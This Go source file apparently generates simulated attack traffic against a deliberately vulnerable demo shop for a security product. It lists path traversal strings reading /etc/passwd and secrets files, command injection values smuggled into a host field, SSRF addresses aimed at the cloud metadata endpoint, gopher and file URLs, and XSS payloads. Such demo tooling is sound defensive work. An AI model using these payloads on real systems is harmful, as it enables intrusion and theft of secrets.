package traffic

import (
	"context"
	"fmt"
	"net/http"
	"runtime"
	"strconv"

	"github.com/sqreen/sqreen/cmd/demo/planted"
)

// intrude tries files, commands, internal addresses and scripts in pages.
func intrude(ctx context.Context, v *visitor, _ int) {
	for _, try := range []func(context.Context){v.shells, v.files, v.fetches, v.scripts} {
		try(ctx)
	}
}

// files reads what lies outside the image directory.
func (v *visitor) files(ctx context.Context) {
	up := "../../../../../../../../../../../.."
	for _, name := range []string{
		"../" + planted.SecretFile, "..//./" + planted.SecretFile, "../images/../" + planted.SecretFile, "./../config/./secrets.env",
		up + "/etc/passwd", up + "/etc/../etc/passwd", up + "//etc//passwd", up + "/proc/self/status", up + "/etc/hostname",
		"%2e%2e/config/secrets.env", "....//config/secrets.env", "..\\config\\secrets.env", up + "/Windows/win.ini",
	} {
		a := v.ask(ctx, "/image", "file", name)
		read := a.Status == http.StatusOK && a.contains(planted.PaymentKey, "root:", "VmRSS", "[fonts]")
		v.tried("path traversal", read)
		if read {
			v.took(lootFile, name)
		}
	}
}

// shells runs commands. Each multiplies two numbers, and only the product in
// the answer proves that a shell did it.
func (v *visitor) shells(ctx context.Context) {
	a, b := 1000+v.rng.IntN(9000), 1000+v.rng.IntN(9000)
	run := fmt.Sprintf("echo $((%d*%d))", a, b)
	tries := []string{"localhost; " + run, "localhost && " + run, "x || " + run, "localhost | " + run, "$(" + run + ")", "`" + run + "`", "localhost\n" + run, "localhost;{IFS=,;echo,$((" + strconv.Itoa(a) + "*" + strconv.Itoa(b) + "));}", "localhost & " + run}
	if runtime.GOOS == "windows" {
		run = fmt.Sprintf("set /a %d*%d", a, b)
		tries = []string{"localhost & " + run, "localhost && " + run, "localhost | " + run}
	}
	for _, host := range tries {
		answer := v.ask(ctx, "/health", "host", host)
		ran := answer.contains(strconv.Itoa(a * b))
		v.tried("shell command", ran)
		if ran {
			v.took(lootCommand, host)
		}
	}
}

// fetches has the shop fetch what only the shop reaches.
func (v *visitor) fetches(ctx context.Context) {
	path := planted.MetadataURL[len("http://169.254.169.254"):]
	for _, address := range []string{
		planted.MetadataURL, "http://169.254.169.254:80" + path, "http://user@169.254.169.254" + path, "http://169.254.169.254/",
		"http://2852039166" + path, "http://0xa9fea9fe" + path, "http://[::ffff:a9fe:a9fe]" + path, "http://127.0.0.1:1/", "file:///etc/passwd", "gopher://127.0.0.1:6379/_INFO",
	} {
		a := v.ask(ctx, "/preview", "url", address)
		got := a.contains(planted.MetadataKey)
		v.tried("internal address", got)
		if got {
			v.took(lootFetch, address)
		}
	}
}

// scripts plants markup in pages that others read.
func (v *visitor) scripts(ctx context.Context) {
	for i, text := range []string{
		`<script>document.title="owned"</script>`, `<img src=x onerror="document.title=1">`, `<svg/onload=document.title=1>`,
		`"><script>document.title=1</script>`, `<a href="javascript:document.title=1">more</a>`, `<ScRiPt >document.title=1</sCrIpT>`,
	} {
		found := v.ask(ctx, "/search", "q", text)
		v.tried("reflected script", found.contains("“"+text+"”"))
		if found.contains("“" + text + "”") {
			v.took(lootPage, "search "+text)
		}
		page := "/product/" + strconv.Itoa(150+i)
		v.post(ctx, page+"/review", "stars", "1", "text", text)
		stored := v.get(ctx, page).contains("<p>" + text + "</p>")
		v.tried("stored script", stored)
		if stored {
			v.took(lootPage, "review "+text)
		}
	}
}
